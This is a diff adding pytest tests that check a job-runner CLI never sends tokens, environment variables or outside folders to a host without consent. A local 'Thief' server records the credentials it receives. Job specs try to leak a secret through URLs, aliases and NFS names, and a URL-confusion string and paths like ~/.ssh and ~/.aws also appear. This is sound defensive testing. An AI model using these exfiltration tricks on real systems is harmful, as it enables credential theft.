@@ -1,0 +1,327 @@
+"""A stranger's job file: no value of a variable and no folder of this machine goes anywhere before its user said so."""
+
+from __future__ import annotations
+
+import base64
+import os
+import pty
+import select
+import subprocess
+import sys
+import threading
+from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from distui import config
+from distui.consent import Ask, Consents
+from distui.errors import SpecError, UsageError
+from distui.spec.read_job import read_job
+
+HEAD = "version: 1\nname: j\nhosts: h1\nimage: x\ncommand: [a]\n"
+SECRET = "s3cret-value"
+
+
+class Thief(ThreadingHTTPServer):
+    """A git host of the job's author: wants a password, and notes whatever is sent."""
+
+    def __init__(self, redirect: str = "") -> None:
+        self.asked: list[str] = []
+        self.tokens: list[str] = []
+        thief = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                thief.asked.append(self.path)
+                if word := self.headers.get("Authorization"):
+                    thief.tokens.append(base64.b64decode(word.partition(" ")[2]).decode())
+                self.send_response(302 if redirect else 401)
+                self.send_header("Location", f"{redirect}{self.path}")
+                self.send_header("WWW-Authenticate", 'Basic realm="x"')
+                self.send_header("Content-Length", "0")
+                self.end_headers()
+
+            def log_message(self, format: str, *args: object) -> None:
+                pass
+
+        super().__init__(("127.0.0.1", 0), Handler)
+        threading.Thread(target=self.serve_forever, daemon=True).start()
+
+    @property
+    def host(self) -> str:
+        return f"127.0.0.1:{self.server_port}"
+
+    def close(self) -> None:
+        self.shutdown()
+        self.server_close()
+
+
+@pytest.fixture
+def thieves() -> Iterator[Callable[..., Thief]]:
+    made: list[Thief] = []
+
+    def make(redirect: str = "") -> Thief:
+        made.append(Thief(redirect))
+        return made[-1]
+
+    yield make
+    for thief in made:
+        thief.close()
+
+
+@pytest.fixture
+def place(home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """The current folder, with an inventory of a host that is not there."""
+    monkeypatch.setenv("CLOUD_KEY", SECRET)
+    Path("hosts.yaml").write_text("version: 1\nhosts:\n  h1: {addr: 127.0.0.1, port: 9}\n")
+    return Path.cwd()
+
+
+def job(code: str) -> None:
+    Path("job.yaml").write_text(f"{HEAD}{code}\n")
+
+
+@pytest.mark.parametrize(
+    "words", [("plan", "job.yaml"), ("-y", "plan", "job.yaml"), ("-y", "run", "--headless", "job.yaml")]
+)
+def test_no_token_goes_to_a_host_that_was_not_allowed(
+    cli: Any, place: Path, thieves: Callable[..., Thief], words: tuple[str, ...]
+) -> None:
+    """Not even a question reaches the host; `-y` is no answer; the words say how to allow it."""
+    thief = thieves()
+    job(f"code: {{git: 'http://{thief.host}/x.git', token: CLOUD_KEY}}")
+    done = cli(*words)
+    assert done.code == 2
+    assert (thief.asked, thief.tokens) == ([], [])
+    assert f"the value of your variable CLOUD_KEY would be sent to {thief.host}" in done.err
+    assert f"distui config allow token CLOUD_KEY {thief.host}" in done.err
+    assert SECRET not in done.out + done.err
+
+
+def test_a_pair_that_was_allowed_is_remembered(
+    cli: Any, place: Path, home: Path, thieves: Callable[..., Thief]
+) -> None:
+    """By variable and host: neither another variable nor another host is allowed by it. It can be taken back."""
+    friend, thief = thieves(), thieves()
+    job(f"code: {{git: 'http://{friend.host}/x.git', token: CLOUD_KEY}}")
+    assert cli("config", "allow", "token", "CLOUD_KEY", friend.host).code == 0
+    kept = home / ".local/state/distui/allowed.json"
+    assert kept.stat().st_mode & 0o777 == 0o600
+    assert cli("plan", "job.yaml").code == 3
+    assert f"oauth2:{SECRET}" in friend.tokens
+    job(f"code: {{git: 'http://{thief.host}/x.git', token: CLOUD_KEY}}")
+    assert cli("plan", "job.yaml").code == 2
+    job(f"code: {{git: 'http://{friend.host}/x.git', token: PATH}}")
+    assert cli("plan", "job.yaml").code == 2
+    assert thief.asked == []
+    assert f"token  CLOUD_KEY  {friend.host}" in cli("config", "allowed").out
+    assert cli("config", "forget", "token", "CLOUD_KEY", friend.host).code == 0
+    assert cli("config", "forget", "token", "CLOUD_KEY", friend.host).code == 7
+    assert SECRET not in kept.read_text()
+
+
+def test_the_user_s_config_allows_pairs_and_a_project_s_does_not(
+    cli: Any, place: Path, home: Path, thieves: Callable[..., Thief], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    thief = thieves()
+    job(f"code: {{git: 'http://{thief.host}/x.git', token: CLOUD_KEY}}")
+    Path("distui.yaml").write_text(f"allow_tokens: CLOUD_KEY@{thief.host}\n")
+    done = cli("plan", "job.yaml")
+    assert (done.code, thief.asked) == (2, [])
+    assert "./distui.yaml:1: allow_tokens is ignored" in done.err
+    monkeypatch.setenv("DISTUI_ALLOW_TOKENS", f"OTHER@x, CLOUD_KEY@{thief.host}")
+    assert cli("plan", "job.yaml").code == 3
+    assert thief.tokens
+
+
+def test_a_redirect_does_not_get_the_token(cli: Any, place: Path, thieves: Callable[..., Thief]) -> None:
+    """Allowed is a host, not wherever it leads."""
+    thief = thieves()
+    friend = thieves(redirect=f"http://{thief.host}")
+    job(f"code: {{git: 'http://{friend.host}/x.git', token: CLOUD_KEY}}")
+    cli("config", "allow", "token", "CLOUD_KEY", friend.host)
+    assert cli("plan", "job.yaml").code == 3
+    assert friend.asked
+    assert (thief.asked, thief.tokens) == ([], [])
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "code: {{git: 'http://{host}/${{CLOUD_KEY}}/x.git'}}",
+        "code: {{git: 'http://{host}/x.git?${{NONE:-${{CLOUD_KEY}}}}'}}",
+        "env: {{A: &a 'http://{host}/${{CLOUD_KEY}}'}}\ncode: {{git: *a}}",
+        "code: {{git: 'http://{host}/x.git', ref: '${{CLOUD_KEY}}'}}",
+        "data: {{d: {{url: 'http://{host}/${{CLOUD_KEY}}', to: /d}}}}",
+        "data: {{d: {{url: 's3://b/x', endpoint: 'http://{host}/${{CLOUD_KEY}}', to: /d}}}}",
+        "data: {{d: {{nfs: '${{CLOUD_KEY}}.{host}:/x', to: /d}}}}",
+    ],
+)
+def test_what_other_machines_see_takes_no_variable(
+    cli: Any, place: Path, thieves: Callable[..., Thief], text: str
+) -> None:
+    """Also by a default, and through an alias from where variables may stand."""
+    thief = thieves()
+    job(text.format(host=thief.host))
+    done = cli("plan", "job.yaml")
+    assert (done.code, thief.asked) == (2, [])
+    assert "takes no variable of yours" in done.err
+    assert SECRET not in done.out + done.err
+
+
+def test_a_dollar_that_is_none_of_ours_stays() -> None:
+    """`$$` and a lone `$` name no variable."""
+    found = read_job(f"{HEAD}code: {{git: 'https://h/a$$b$c/x.git'}}", "j.yaml", environ={})
+    assert found.code is not None
+    assert found.code.git == "https://h/a$b$c/x.git"
+
+
+@pytest.mark.parametrize("url", ["https://evil.example\\@good.example/x", "https://good.example:x/", "https://a b/x"])
+def test_a_url_whose_host_programs_disagree_about_is_none(url: str) -> None:
+    with pytest.raises(SpecError, match="URL"):
+        read_job(f"{HEAD}code: {{git: '{url}', token: T}}", "j.yaml", environ={})
+
+
+# folders
+
+
+@pytest.fixture
+def code(home: Path) -> Path:
+    """A folder beside the job's."""
+    folder = home.parent / "private"
+    folder.mkdir()
+    (folder / "notes.txt").write_text("mine\n")
+    (folder / "Dockerfile").write_text("FROM scratch\n")
+    return folder
+
+
+@pytest.mark.parametrize(
+    "key", ["code: {path}", "code: {{path: '{path}'}}", "build: {path}", "code: {{git: '{path}'}}"]
+)
+def test_a_folder_outside_the_job_s_is_taken_by_nobody_unasked(cli: Any, place: Path, code: Path, key: str) -> None:
+    """Named, by a link, relative, as code or build; allowed for this job folder only."""
+    (place / "link").symlink_to(code)
+    for path in (code, "../private", "./link"):
+        if "git" not in key or path == code:
+            job(key.format(path=path))
+            done = cli("-y", "plan", "job.yaml")
+            assert done.code == 2
+            assert f"files of {code}, which is outside the job's folder {place}, would be sent" in done.err
+            assert f"distui config allow folder {code} {place}" in done.err
+    assert cli("config", "allow", "folder", str(code), str(place)).code == 0
+    assert "outside the job's folder" not in cli("plan", "job.yaml").err
+
+
+def test_what_is_the_job_s_own_needs_no_word(cli: Any, place: Path, code: Path) -> None:
+    """Its folder, its repository around it, and a folder named on the command line."""
+    (place / "src").mkdir()
+    (place / "src" / "a.py").write_text("")
+    (place / "jobs").mkdir()
+    job("code: ./src")
+    assert cli("plan", "job.yaml").code == 4
+    (place / "jobs" / "job.yaml").write_text(f"{HEAD}code: ../src\n")
+    assert cli("plan", "jobs/job.yaml").code == 2
+    (place / ".git").mkdir()
+    assert cli("plan", "jobs/job.yaml").code == 4
+    assert cli("plan", "jobs/job.yaml", "--set", f"code.path={code}").code == 4
+
+
+@pytest.mark.parametrize("path", ["~", "~/.ssh", "~/.aws/sub", "~/..", "/", "/etc", "~/.config/distui"])
+def test_folders_full_of_secrets_are_never_sent(cli: Any, place: Path, home: Path, path: str) -> None:
+    """Not after a yes, nor when typed; only when the user's own config lists them."""
+    Path(path).expanduser().mkdir(parents=True, exist_ok=True)
+    job(f"code: '{path}'")
+    real = str(Path(path).expanduser().resolve())
+    cli("config", "allow", "folder", real, str(place))
+    for words in ((), ("--set", f"code.path={real}")):
+        done = cli("plan", "job.yaml", *words)
+        assert done.code == 2
+        assert f"code: {real} is never sent" in done.err
+    if path == "~/.ssh":
+        (home / ".config/distui").mkdir(parents=True, exist_ok=True)
+        (home / ".config/distui/config.yaml").write_text("allow_folders: ~/.ssh\n")
+        assert cli("plan", "job.yaml").code == 4
+
+
+def test_a_job_from_standard_input_has_no_folder(place: Path, code: Path) -> None:
+    """Where it was called is nothing it may take."""
+    done = distui("plan", "-", given=f"{HEAD}code: {code}\n")
+    assert done.returncode == 2
+    assert "outside the job's folder standard input" in done.stderr
+
+
+def distui(*words: str, given: str = "") -> subprocess.CompletedProcess[str]:
+    argv = (sys.executable, "-c", "import sys; from distui.cli.main import main; sys.exit(main())", *words)
+    root = Path(__file__).resolve().parents[2]
+    env = {**os.environ, "PYTHONPATH": str(root)}
+    return subprocess.run(argv, input=given, capture_output=True, text=True, env=env)
+
+
+@pytest.mark.parametrize(("answer", "allowed"), [("y\n", True), ("\n", False), ("no\n", False)])
+def test_on_a_terminal_it_is_asked_once(
+    place: Path, home: Path, thieves: Callable[..., Thief], answer: str, allowed: bool
+) -> None:
+    """`-y` does not answer it. A yes holds from then on."""
+    thief = thieves()
+    job(f"code: {{git: 'http://{thief.host}/x.git', token: CLOUD_KEY}}")
+    code, said = on_a_terminal(("-y", "plan", "job.yaml"), "Allow it, now and later? [y/N]", answer)
+    assert bool(thief.tokens) is allowed
+    assert code == (3 if allowed else 2)
+    assert "CLOUD_KEY would be sent to" in said
+    if allowed:
+        assert Consents(home / ".local/state/distui/allowed.json").has(Ask("token", "CLOUD_KEY", thief.host))
+        assert distui("plan", "job.yaml").returncode == 3
+
+
+def on_a_terminal(words: tuple[str, ...], question: str, answer: str) -> tuple[int, str]:
+    """Call distui on a terminal of its own and answer one question."""
+    ours, theirs = pty.openpty()
+    argv = (sys.executable, "-c", "import sys; from distui.cli.main import main; sys.exit(main())", *words)
+    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2]), "TERM": "dumb"}
+    with subprocess.Popen(argv, stdin=theirs, stdout=theirs, stderr=theirs, env=env) as process:
+        os.close(theirs)
+        said, answered = "", False
+        while select.select([ours], [], [], 60)[0]:
+            try:
+                said += os.read(ours, 4096).decode()
+            except OSError:  # its end was closed
+                break
+            if question in said and not answered:
+                os.write(ours, answer.encode())
+                answered = True
+        code = process.wait()
+    os.close(ours)
+    assert answered, said
+    return code, said
+
+
+# the file of answers, and the project's config
+
+
+@pytest.mark.parametrize(
+    "text", ["[]", "{", '{"allowed": [["token", "A"]]}', '{"allowed": [["all", "A", "b"]]}', "[" * 9999]
+)
+def test_a_file_of_answers_that_is_damaged_allows_nothing(tmp_path: Path, text: str) -> None:
+    path = tmp_path / "allowed.json"
+    path.write_text(text)
+    with pytest.raises(UsageError, match="is damaged"):
+        Consents(path).has(Ask("token", "A", "b"))
+
+
+def test_a_project_s_config_sets_looks_and_limits_only(cli: Any, place: Path) -> None:
+    """A cloned repository's ./distui.yaml answers no question, names no inventory, and rebinds no key; it is said."""
+    Path("other.yaml").write_text("version: 1\nhosts: {evil: {}}\n")
+    Path("distui.yaml").write_text(
+        "yes: true\nhosts_file: other.yaml\nkeymap: {stop: j}\nparallel: 3\nreadonly: false\n"
+    )
+    done = cli("hosts", "ls", "-o", "name")
+    assert done.out.split() == ["h1"]
+    for line, key in ((1, "yes"), (2, "hosts_file"), (3, "keymap"), (5, "readonly")):
+        assert f"distui: ./distui.yaml:{line}: {key} is ignored: it only counts in your own config file" in done.err
+    found = config.load({}, {"HOME": str(place), "DISTUI_READONLY": "1"}, place)
+    assert [found[key].value for key in ("yes", "hosts_file", "parallel", "readonly")] == [False, None, 3, True]
+    Path("distui.yaml").write_text("readonly: true\n")
+    assert config.load({}, {"HOME": str(place)}, place)["readonly"].value is True
